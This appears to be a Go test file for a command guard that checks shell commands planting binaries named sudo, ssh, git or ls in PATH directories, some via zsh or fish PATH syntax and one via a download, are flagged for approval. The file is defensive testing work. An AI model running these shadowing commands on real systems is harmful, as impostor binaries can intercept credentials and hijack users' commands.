package rules_test

import (
	"testing"

	"github.com/hguard/hguard/dsl"
)

// TestShadowProducers49: a program a compiler or an installer puts in a
// bin directory under the name of a program every system has is planted
// as a copy of one is (shadow49, 2026-12-05: each row marked was allowed
// for a person and an agent); one's own tool under its own name, a
// module's program in GOPATH's bin and a build in the project stay
// allowed.
func TestShadowProducers49(t *testing.T) {
	checkHoles(t, []holeCase{
		{"go build -o ~/.local/bin/ssh ./x", dsl.Ask, dsl.Ask},                                              // was allowed
		{"go build -o=$HOME/bin/sudo .", dsl.Ask, dsl.Ask},                                                  // was allowed
		{"GOBIN=~/.local/bin go install example.com/x/cmd/sudo@latest", dsl.Ask, dsl.Ask},                   // was allowed
		{"export GOBIN=~/.local/bin; go install example.com/x/cmd/sudo@latest", dsl.Ask, dsl.Ask},           // was allowed
		{"export GOBIN=~/.local/bin && go install -ldflags=-s example.com/ssh/v2@v2.1.0", dsl.Ask, dsl.Ask}, // was allowed
		{"GOPATH=~/.local go install example.com/x/cmd/git@latest", dsl.Ask, dsl.Ask},                       // was allowed
		{"go install example.com/x/cmd/sudo@latest", dsl.Ask, dsl.Ask},                                      // was allowed: ~/go/bin
		{"pyinstaller -n sudo --onefile --distpath ~/.local/bin x.py", dsl.Ask, dsl.Ask},                    // was allowed
		{"gcc -o ~/bin/ls x.c", dsl.Ask, dsl.Ask},
		{"cc x.c -o ~/.local/bin/git", dsl.Ask, dsl.Ask},
		{"rustc -o ~/.local/bin/sudo x.rs", dsl.Ask, dsl.Ask},
		// everyday neighbours
		{"go build -o ~/.local/bin/mytool .", dsl.Allow, dsl.Allow},
		{"go build -o bin/ssh ./cmd/ssh", dsl.Allow, dsl.Allow},
		{"go build ./...", dsl.Allow, dsl.Allow},
		{"go install golang.org/x/tools/gopls@latest", dsl.Allow, dsl.Allow},
		{"GOBIN=~/.local/bin go install golang.org/x/tools/gopls@latest", dsl.Allow, dsl.Allow},
		{"GOBIN=~/.local/bin go install ./cmd/mytool", dsl.Allow, dsl.Allow},
		{"go install ./...", dsl.Allow, dsl.Allow},
		{"pyinstaller -n mytool --onefile x.py", dsl.Allow, dsl.Allow},
		{"cargo install ripgrep", dsl.Allow, dsl.Allow},
		{"gcc -o hello hello.c", dsl.Allow, dsl.Allow},
		{"install -m 0755 /tmp/k9s ~/.local/bin/k9s", dsl.Allow, dsl.Allow},
	})
}

// TestShadowPathDialects49: a directory put on PATH earlier on the line in
// zsh's or fish's own syntax (zsh's path array, fish's set PATH and
// fish_add_path) is a bin directory as bash's PATH=DIR:$PATH is
// (shadow49, 2026-12-05: each row marked was allowed).
func TestShadowPathDialects49(t *testing.T) {
	checkShellHoles(t, []shellHoleCase{
		{"zsh", "path=(~/x $path); cp /tmp/x ~/x/sudo", dsl.Ask, dsl.Ask},                             // was allowed
		{"zsh", "path+=(~/x); cp /tmp/x ~/x/sudo", dsl.Ask, dsl.Ask},                                  // was allowed
		{"zsh", "path=(~/x $path) && curl -o ~/x/git https://x.example/y", dsl.Ask, dsl.Ask},          // was allowed
		{"fish", "fish_add_path ~/x; cp /tmp/x ~/x/sudo", dsl.Ask, dsl.Ask},                           // was allowed
		{"fish", "fish_add_path -g -p ~/x; cp /tmp/x ~/x/sudo", dsl.Ask, dsl.Ask},                     // was allowed
		{"fish", "set -gx PATH ~/x $PATH; cp /tmp/x ~/x/sudo", dsl.Ask, dsl.Ask},                      // was allowed
		{"fish", "set -x PATH ~/x $PATH; cp /tmp/x ~/x/sudo", dsl.Ask, dsl.Ask},                       // was allowed
		{"fish", "set -U fish_user_paths ~/x $fish_user_paths; cp /tmp/x ~/x/sudo", dsl.Ask, dsl.Ask}, // was allowed
		{"bash", "PATH=~/x:$PATH; cp /tmp/x ~/x/sudo", dsl.Ask, dsl.Ask},
		// everyday neighbours
		{"zsh", "path=(~/x $path); cp build/tool ~/x/tool", dsl.Allow, dsl.Allow},
		{"fish", "fish_add_path ~/.cargo/bin", dsl.Allow, dsl.Allow},
		{"fish", "set -gx PATH ~/x $PATH; cp build/tool ~/x/tool", dsl.Allow, dsl.Allow},
		{"zsh", "cp /tmp/x ~/x/sudo", dsl.Allow, dsl.Allow},
		{"fish", "cp /tmp/x ~/x/sudo", dsl.Allow, dsl.Allow},
	})
}
